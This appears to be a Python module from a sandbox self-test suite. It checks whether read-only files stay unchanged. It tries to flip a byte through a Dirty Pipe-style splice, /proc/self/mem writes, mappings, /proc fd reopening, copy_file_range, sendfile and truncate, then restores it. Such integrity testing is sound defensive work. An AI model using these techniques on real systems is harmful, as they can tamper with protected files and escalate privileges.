"""Writing through a descriptor that only reads."""

import mmap
import os
from collections.abc import Callable, Iterator
from functools import partial

from bottle.selftest.kit import Attempt, attack
from bottle.selftest.probes.calls import checked, libc

_AT = 1  # the first byte of a page could not be spliced over
_MERGEABLE = 64 * 1024


@attack(
    aim="read_only_files",
    source="CVE-2022-0847 (Dirty Pipe), CVE-2016-5195 (Dirty COW), CVE-2023-0386 (overlay copy-up)",
    expects="the file is what it was",
    control="own_writable_files",
)
def attempts(aim: list[str]) -> Iterator[Attempt]:
    """Changes a byte of a read-only file through pipes, mappings and its own memory, and puts it back."""
    ways = {
        "splice": _splice,
        "private mapping": _private_mapping,
        "shared mapping": _shared_mapping,
        "descriptor in /proc": _reopened,
        "copy_file_range": _copied,
        "sendfile": _sent,
        "truncate": _truncated,
    }
    for path in aim:
        for what, way in ways.items():
            yield f"{what} {path}", partial(_changed, path, way)


def _changed(path: str, way: Callable[[str, bytes], object]) -> str | None:
    before = _content(path)
    old = before[_AT : _AT + 1]
    way(path, bytes((old[0] ^ 0x20,)))
    after = _content(path)
    if after == before:
        return None
    way(path, old)
    return f"{path} was changed"


def _content(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


def _splice(path: str, byte: bytes) -> None:
    """A pipe whose buffers are marked as mergeable, then one that is a page of the file."""
    read, write = os.pipe()
    os.write(write, bytes(_MERGEABLE))
    os.read(read, _MERGEABLE)
    os.splice(os.open(path, os.O_RDONLY), write, 1, offset_src=_AT - 1)
    os.write(write, byte)


def _private_mapping(path: str, byte: bytes) -> None:
    area = mmap.mmap(os.open(path, os.O_RDONLY), 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    with open("/proc/self/maps") as maps:
        start = next((line.partition("-")[0] for line in maps if line.endswith(f" {path}\n")), None)
    if start is None:
        raise FileNotFoundError(path)
    with open("/proc/self/mem", "r+b", 0) as memory:
        memory.seek(int(start, 16) + _AT)
        memory.write(byte)
    area.close()


def _shared_mapping(path: str, byte: bytes) -> None:
    with mmap.mmap(os.open(path, os.O_RDWR), 0) as area:
        area[_AT : _AT + 1] = byte


def _reopened(path: str, byte: bytes) -> None:
    reading = os.open(path, os.O_RDONLY)
    os.pwrite(os.open(f"/proc/self/fd/{reading}", os.O_WRONLY), byte, _AT)


def _copied(path: str, byte: bytes) -> None:
    os.copy_file_range(_holding(byte), os.open(path, os.O_WRONLY), 1, 0, _AT)


def _sent(path: str, byte: bytes) -> None:
    target = os.open(path, os.O_WRONLY)
    os.lseek(target, _AT, os.SEEK_SET)
    os.sendfile(target, _holding(byte), 0, 1)


def _truncated(path: str, byte: bytes) -> None:
    """To what it is, by name; the byte is written where that is allowed."""
    checked(libc.truncate(path.encode(), os.path.getsize(path)))
    os.pwrite(os.open(path, os.O_WRONLY), byte, _AT)


def _holding(byte: bytes) -> int:
    made = os.memfd_create("byte")
    os.write(made, byte)
    return made
